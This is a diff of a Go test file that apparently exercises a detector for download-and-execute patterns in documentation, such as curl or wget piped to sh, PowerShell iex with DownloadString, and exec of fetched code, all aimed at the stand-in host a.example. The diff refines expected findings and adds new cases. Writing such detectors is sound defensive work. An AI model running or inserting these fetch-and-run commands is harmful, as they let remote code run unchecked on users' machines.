@@ -24,7 +24,7 @@ func TestFlows(t *testing.T) {
 		"another language":      {"```python\nx = a | b\n```\n", nil},
 		"code span":             {"Run `curl https://a.example/x | sh` first.\n", []string{"1:6 curl>sh"}},
 		"two backticks":         {"Run `` wget -qO- https://a.example/x | python3 `` first.\n", []string{"1:8 wget>python3"}},
-		"not marked":            {"First run curl -s https://a.example/x | sh\n", []string{"1:1 first>sh", "1:7 run>sh", "1:11 curl>sh"}},
+		"not marked":            {"First run curl -s https://a.example/x | sh\n", []string{"1:11 curl>sh"}},
 		"through another":       {"`curl https://a.example/x | base64 -d | bash`\n", []string{"1:2 base64,curl>bash"}},
 		"process substitution":  {"`bash <(curl -s https://a.example/x)`\n", []string{"1:2 curl>bash"}},
 		"substitution":          {"`sh -c \"$(curl -fsSL https://a.example/x)\"`\n", []string{"1:2 curl>sh"}},
@@ -58,6 +58,8 @@ func TestFlows(t *testing.T) {
 		"a file that is moved":  {"`curl -o a https://a.example/x; mv a b; sh b`\n", []string{"1:2 mv,curl>sh file"}},
 		"a file, further down":  {"```sh\ncurl -LO https://a.example/x.sh\n```\n\nThen:\n\n```sh\nsudo sh x.sh\n```\n", []string{"2:1 curl>sh fenced file"}},
 		"a file, before":        {"`sh x.sh` and `curl -o x.sh https://a.example/x`\n", nil},
+		"a placeholder":         {"`curl http://<HOST>/v1/models` and `/opt/models`\n", nil},
+		"a folder":              {"`curl https://a.example/x | tar -xz -C /opt/bin` and `/usr/local/bin`\n", nil},
 		"another file":          {"`curl -o y.json https://a.example/x; sh x.sh y.json`\n", nil},
 		"lines of a loop":       {"`curl https://a.example/x | while read l; do eval \"$l\"; done`\n", []string{"1:2 curl>eval variable"}},
 		"xargs":                 {"`curl https://a.example/x | xargs -0 sh -c`\n", []string{"1:2 curl>xargs"}},
@@ -68,7 +70,7 @@ func TestFlows(t *testing.T) {
 		"tags":                  {"<pre><code>curl https://a.example/x &#124; sh</code></pre>\n", []string{"1:12 curl>sh"}},
 		"a string of a program": {"```python\nos.system('curl https://a.example/x | sh')\n```\n", []string{"2:12 curl>sh fenced"}},
 		"escapes of a string":   {"```js\nexec(\"curl https://a.example/x \\x7c sh\")\n```\n", []string{"2:7 curl>sh fenced"}},
-		"a recipe":              {"```dockerfile\nRUN curl https://a.example/x | sh\n```\n", []string{"2:1 run>sh", "2:5 curl>sh"}},
+		"a recipe":              {"```dockerfile\nRUN curl https://a.example/x | sh\n```\n", []string{"2:5 curl>sh"}},
 		"PowerShell":            {"`iex (iwr https://a.example/x)`\n", []string{"1:2 iwr>iex"}},
 		"PowerShell, hidden":    {"```powershell\ni`ex (New-Object Net.WebClient).DownloadString('https://a.example/x')\n```\n", []string{"2:1 downloadstring>iex fenced"}},
 		"a call":                {"```python\nc = requests.get(u).text\nexec(c)\n```\n", []string{"3:1 requests.get>exec fenced call"}},
@@ -82,6 +84,7 @@ func TestFlows(t *testing.T) {
 		"no rules of make":      {"`curl https://a.example/x | make -f x.mk`\n", nil},
 		"a call of awk":         {"```sh\nawk 'BEGIN{system(\"curl https://a.example/x | sh\")}'\n```\n", []string{"2:20 curl>sh fenced"}},
 		"a call of an argument": {"`python3 -c 'import os; os.system(\"curl https://a.example/x | sh\")'`\n", []string{"1:36 curl>sh fenced"}},
+		"a call of R":           {"`Rscript -e 'system(\"curl https://a.example/x | sh\")'`\n", []string{"1:22 curl>sh fenced"}},
 		"text of awk":           {"`awk '{print \"curl https://a.example/x | sh\"}' x`\n", nil},
 		"wide characters":       {"Führe `curl https://a.example/x | sh` aus.\n", []string{"1:8 curl>sh"}},
 	} {
@@ -176,6 +179,7 @@ func TestCodeBeyondBounds(t *testing.T) {
 		"many writers": "```sh\n" + strings.Repeat("echo a > x\n", maxMade) + "curl x > x\n```\n\n`sh x`\n",
 		"many runs":    "```sh\n" + strings.Repeat("sh y\n", maxTrail) + "curl x > x\n```\n\n`sh x`\n",
 		"long values":  "```python\n" + strings.Repeat("a = (\n", maxExamined/maxArguments+1) + strings.Repeat("b\n", maxArguments) + "x=urlopen(u)\nexec(y)\n```\n",
+		"long data":    "[x](data:text/plain;base64," + strings.Repeat("IyBub3Rl", maxDataText/8) + ")\n",
 		"many words":   "`sh -c" + strings.Repeat(" -x", maxArgs) + " 'curl x' | sh`\n",
 	} {
 		s := searched(text)
